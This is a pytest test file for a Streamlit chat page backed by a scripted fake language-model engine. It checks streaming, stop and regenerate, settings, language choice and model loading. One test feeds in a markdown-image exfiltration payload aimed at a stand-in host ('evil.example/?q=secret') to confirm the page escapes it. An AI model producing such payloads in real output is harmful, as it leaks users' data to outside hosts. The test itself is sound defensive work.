"""The chat page on the scripted engine, without a browser."""

import re
import threading
from collections.abc import Callable, Iterator
from itertools import islice
from pathlib import Path

import pytest
from fake_engine import FakeEngine, as_engine, assistant_on
from streamlit.testing.v1 import AppTest

import assistant
from assistant import Assistant, Conversation, FinishReason, ModelLoader
from engine import (
    DownloadFailed,
    DownloadProgress,
    Engine,
    EngineClosed,
    EngineOptions,
    LoadListener,
)

MAIN = Path(__file__).parents[2] / "pages" / "main.py"


@pytest.fixture(autouse=True)
def _uninstall() -> Iterator[None]:
    yield
    assistant.install(None)


class Page:
    """The chat page in one browser tab."""

    def __init__(self, behind: Assistant, **query: str) -> None:
        assistant.install(behind)
        self.behind = behind
        self.app = AppTest.from_file(str(MAIN), default_timeout=30)
        self.app.query_params.update(query)
        self.run()

    def run(self) -> None:
        self.app.run()
        assert not self.app.exception

    @property
    def conversation(self) -> Conversation:
        [conversation_id] = list_of(self.app.query_params["c"])
        return self.behind.conversation(conversation_id)

    def ask(self, question: str) -> None:
        self.app.chat_input[0].set_value(question)
        self.run()

    def settle(self) -> None:
        """Waits for the answer and looks again."""
        if self.conversation.job is not None:
            self.conversation.job.wait()
        self.run()

    def click(self, key: str) -> None:
        self.app.button(key=key).click()
        self.run()

    def offers(self) -> set[str | None]:
        return {button.key for button in self.app.button}

    def said(self) -> list[tuple[str, str]]:
        """Who said what, as the page shows it."""
        return [
            (message.name, " | ".join(part.value for part in [*message.text, *message.markdown]))
            for message in self.app.chat_message
        ]

    def problem(self) -> str:
        """The one error on the page, as it reads."""
        [error] = self.app.error
        return re.sub(r"\\(.)", r"\1", error.value)

    def small_print(self) -> str:
        return " | ".join(caption.value for caption in self.app.caption)


def list_of(value: str | list[str]) -> list[str]:
    """A query parameter, which the page sets as a text and the address brings as a list."""
    return [value] if isinstance(value, str) else value


@pytest.fixture
def open_page(tmp_path: Path) -> Callable[[FakeEngine], Page]:
    return lambda fake: Page(assistant_on(fake, tmp_path))


OpenPage = Callable[[FakeEngine], Page]


def test_a_question_is_answered_and_its_figures_are_shown(open_page: OpenPage) -> None:
    page = open_page(FakeEngine("It is **Paris**."))
    page.ask("Capital of France?")
    page.settle()
    assert page.said() == [("user", "Capital of France?"), ("assistant", "It is **Paris**.")]
    assert "16 tokens · 20.0 tokens/s · first token after 0.2 s" in page.small_print()
    assert "continue" not in page.offers()


def test_the_prompt_being_read_is_a_bar_and_then_the_answer_grows(open_page: OpenPage) -> None:
    fake = FakeEngine()
    page = open_page(fake)
    page.ask("Hi")
    job = page.conversation.job
    assert job is not None
    events = job.events()
    fake.generations[0].read(310, 820, 9.0)
    next(events)
    page.run()
    [bar] = page.app.get("progress")
    assert bar.proto.text == "Reading: 310/820 tokens, about 9 s left"
    fake.generations[0].say("Ha")
    next(events)
    next(events)
    page.run()
    assert page.said() == [("user", "Hi"), ("assistant", "Ha")]
    fake.generations[0].say("llo")
    fake.generations[0].finish()
    page.settle()
    assert page.said() == [("user", "Hi"), ("assistant", "Hallo")]


def test_another_tab_on_the_same_address_sees_the_same_answer(open_page: OpenPage) -> None:
    fake = FakeEngine()
    page = open_page(fake)
    page.ask("Hi")
    fake.generations[0].say("Hal")
    other = Page(page.behind, c=page.conversation.id)
    assert other.conversation is page.conversation
    fake.generations[0].finish()
    other.settle()
    assert other.said() == [("user", "Hi"), ("assistant", "Hal")]
    assert len(fake.generations) == 1


def test_stop_stops_the_engine_and_offers_to_continue(open_page: OpenPage) -> None:
    fake = FakeEngine()
    page = open_page(fake)
    page.ask("Hi")
    fake.generations[0].say("Hal")
    page.click("stop")
    page.settle()
    assert fake.generations[0].cancelled
    assert page.said()[-1] == ("assistant", "Hal")
    assert "Stopped · 3 tokens" in page.small_print()
    assert {"regenerate", "continue"} <= page.offers()
    assert "stop" not in page.offers()


def test_continue_goes_on_in_the_same_message(open_page: OpenPage) -> None:
    fake = FakeEngine()
    page = open_page(fake)
    page.ask("Hi")
    fake.generations[0].say("one")
    fake.generations[0].finish(FinishReason.LENGTH)
    page.settle()
    assert "Cut: reached the maximum of new tokens" in page.small_print()
    page.click("continue")
    fake.generations[1].say(" two")
    fake.generations[1].finish()
    page.settle()
    assert page.said() == [("user", "Hi"), ("assistant", "one two")]


def test_regenerate_asks_again(open_page: OpenPage) -> None:
    page = open_page(FakeEngine("first", "second"))
    page.ask("Hi")
    page.settle()
    page.click("regenerate")
    page.settle()
    assert page.said() == [("user", "Hi"), ("assistant", "second")]


def test_clear_empties_the_conversation_and_keeps_its_address(open_page: OpenPage) -> None:
    page = open_page(FakeEngine("first"))
    page.ask("Hi")
    page.settle()
    address = page.app.query_params["c"]
    page.click("clear")
    assert page.said() == []
    assert page.app.title[0].value == "Hello, what shall we talk about?"
    assert page.app.query_params["c"] == address


def test_a_suggestion_is_asked_by_one_click(open_page: OpenPage) -> None:
    page = open_page(FakeEngine("ok"))
    page.click("suggestion_1")
    page.settle()
    assert page.said()[0] == ("user", "Explain recursion in one sentence")


def test_what_is_too_long_is_refused_with_both_lengths_and_stays_in_the_box(
    tmp_path: Path,
) -> None:
    page = Page(assistant_on(FakeEngine("ok", context_length=100), tmp_path))
    page.ask("x" * 200)
    assert "219 tokens" in page.problem()
    assert "100" in page.problem()
    assert page.app.chat_input[0].proto.value == "x" * 200
    assert page.said() == []
    page.ask("short")
    page.settle()
    assert not page.app.error
    assert page.said()[-1] == ("assistant", "ok")


def test_a_question_asked_while_another_is_answered_stays_in_the_box(open_page: OpenPage) -> None:
    page = open_page(FakeEngine())
    page.ask("Hi")
    page.ask("Me too")
    assert "still being written" in page.problem()
    assert page.app.chat_input[0].proto.value == "Me too"
    assert page.said()[0] == ("user", "Hi")


def test_an_answer_that_broke_off_keeps_its_text_and_says_why(open_page: OpenPage) -> None:
    fake = FakeEngine()
    page = open_page(fake)
    page.ask("Hi")
    fake.generations[0].say("Hal")
    fake.generations[0].fail(EngineClosed())
    page.settle()
    assert page.said()[-1] == ("assistant", "Hal")
    assert page.problem() == f"Broken off: {EngineClosed()}"


def test_the_sidebar_sets_how_the_model_is_asked(open_page: OpenPage) -> None:
    fake = FakeEngine("ok")
    page = open_page(fake)
    page.app.text_area[0].set_value("Be brief.")
    for slider, value in zip(page.app.slider, (0.3, 0.5, 1.25), strict=True):
        slider.set_value(value)
    page.app.number_input[0].set_value(64)
    page.run()
    page.ask("Hi")
    page.settle()
    params = fake.generations[0].params
    assert (params.temperature, params.top_p, params.repetition_penalty) == (0.3, 0.5, 1.25)
    assert params.max_new_tokens == 64
    assert "<|im_start|>system\nBe brief.<|im_end|>" in fake.prompt_text()


def test_settings_survive_a_refresh(open_page: OpenPage) -> None:
    page = open_page(FakeEngine("ok"))
    page.app.slider[0].set_value(0.3)
    page.run()
    again = Page(page.behind, c=page.conversation.id)
    assert again.app.slider[0].value == 0.3


def test_the_language_is_chosen_on_the_page(open_page: OpenPage) -> None:
    page = open_page(FakeEngine("ok"))
    page.app.segmented_control(key="lang").set_value("中文")
    page.run()
    assert page.app.title[0].value == "你好，想聊点什么？"
    assert page.app.chat_input[0].placeholder == "输入问题"


def test_the_language_can_come_with_the_address(tmp_path: Path) -> None:
    page = Page(assistant_on(FakeEngine("ok"), tmp_path), lang="中文")
    assert page.app.title[0].value == "你好，想聊点什么？"


def test_an_address_that_is_gone_opens_a_new_conversation_and_says_so(tmp_path: Path) -> None:
    page = Page(assistant_on(FakeEngine("ok"), tmp_path), c="gone")
    assert page.app.query_params["c"] != ["gone"]
    assert "is gone" in page.problem()


def test_images_that_a_model_writes_are_not_drawn_at_any_time(open_page: OpenPage) -> None:
    fake = FakeEngine()
    page = open_page(fake)
    page.ask("Hi")
    job = page.conversation.job
    assert job is not None
    written = "![x](http://evil.example/?q=secret) <b>"
    fake.generations[0].say(written)
    assert len(list(islice(job.events(), len(written)))) == len(written)
    for _ in ("while it is written", "and afterwards"):
        page.run()
        assert page.said()[-1][1] == r"\![x](http://evil.example/?q=secret) \<b>"
        fake.generations[0].finish()
        job.wait()
    assert not any(markdown.allow_html for markdown in page.app.markdown)


def test_the_page_is_there_while_the_model_is_fetched(tmp_path: Path) -> None:
    gate = threading.Event()

    def fetch(home: Path, listener: Callable[[DownloadProgress], None]) -> Path:
        listener(DownloadProgress(500_000_000, 1_250_000_000, "the hub", 65.0))
        gate.wait()
        raise DownloadFailed(what="w", reason="r", tried="t", remedy="y")

    behind = Assistant(ModelLoader(lambda: tmp_path, fetch=fetch))
    state = behind.model_state
    behind.open_model(None)
    while not isinstance(state, assistant.Fetching):
        state = behind.wait_model(state)
    page = Page(behind)
    [bar] = page.app.get("progress")
    assert bar.proto.text == (
        "First start, fetching the model from the hub: 500 MB of 1.25 GB, about 1 min 5 s left"
    )
    assert bar.proto.value == 40
    assert not page.app.chat_input
    gate.set()
    wait(behind)
    page.run()
    assert page.app.error


def failed(tmp_path: Path, fake: FakeEngine) -> Assistant:
    def fetch(home: Path, listener: Callable[[DownloadProgress], None]) -> Path:
        raise DownloadFailed(what="the starter", reason="no network", tried="hub, pip", remedy="R")

    def load(path: Path, options: EngineOptions, listener: LoadListener) -> Engine:
        return as_engine(fake)

    behind = Assistant(ModelLoader(lambda: tmp_path, load=load, fetch=fetch))
    behind.open_model(None)
    wait(behind)
    return behind


def wait(behind: Assistant) -> None:
    state = behind.model_state
    while not isinstance(state, assistant.Ready | assistant.Failed):
        state = behind.wait_model(state)


def test_without_a_model_the_page_says_where_it_looked_and_takes_a_path(tmp_path: Path) -> None:
    page = Page(failed(tmp_path, FakeEngine("ok")))
    assert "no network" in page.problem()
    assert "hub, pip" in page.problem()
    assert "MODEL=" in page.small_print()
    file = tmp_path / "mine.gguf"
    file.touch()
    page.app.text_input(key="model_path").set_value(str(file))
    page.click("open_model")
    wait(page.behind)
    page.run()
    page.ask("Hi")
    page.settle()
    assert page.said()[-1] == ("assistant", "ok")


def test_a_path_that_leads_nowhere_is_said_and_another_can_be_typed(tmp_path: Path) -> None:
    page = Page(failed(tmp_path, FakeEngine("ok")))
    page.app.text_input(key="model_path").set_value(str(tmp_path / "nowhere.gguf"))
    page.click("open_model")
    wait(page.behind)
    page.run()
    assert "nowhere.gguf" in page.problem()
    assert page.app.text_input(key="model_path")


@pytest.mark.parametrize(("language", "line"), [("English", "oldest turns"), ("中文", "最早的")])
def test_turns_that_the_model_does_not_see_are_told(
    tmp_path: Path, language: str, line: str
) -> None:
    page = Page(assistant_on(FakeEngine("y" * 200, context_length=600), tmp_path), lang=language)
    for _ in range(3):
        page.ask("x" * 100)
        page.settle()
    captions = [caption.value for caption in page.app.caption]
    assert len([caption for caption in captions if line in caption]) == 1
